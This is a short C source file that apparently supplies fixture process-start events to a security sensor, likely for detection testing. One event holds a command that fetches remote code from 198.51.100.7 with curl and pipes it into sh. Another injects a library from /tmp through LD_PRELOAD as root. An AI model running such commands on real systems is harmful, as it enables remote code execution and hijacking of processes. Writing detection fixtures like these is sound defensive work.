/* Where a sensor's events come from. Here: three processes that started. */
#include <stddef.h>
#include <stdint.h>

typedef struct process_start {
    int64_t pid;
    const char *image;
    const char *command_line; /* whatever bytes the process was given */
    size_t command_line_len;
    const char *user;      /* or NULL */
    const char *arguments; /* each ended by a NUL, as /proc/PID/cmdline has them */
    size_t arguments_len;
} process_start_t;

#define BYTES(literal) literal, sizeof(literal) - 1

static int next_event(process_start_t *event)
{
    static const process_start_t EVENTS[] = {
        { 4711, "/bin/bash", BYTES("bash -c curl -s http://198.51.100.7/x\xff | sh"), NULL,
          BYTES("bash\0-c\0curl -s http://198.51.100.7/x\xff | sh\0") },
        { 4712, "/usr/bin/env", BYTES("env LD_PRELOAD=/tmp/x.so id"), "root", BYTES("env\0LD_PRELOAD=/tmp/x.so\0id\0") },
        { 4713, "/usr/bin/id", BYTES("id"), "root", BYTES("id\0") },
    };
    static size_t at;
    if (at == sizeof(EVENTS) / sizeof(EVENTS[0]))
        return 0;
    *event = EVENTS[at++];
    return 1;
}
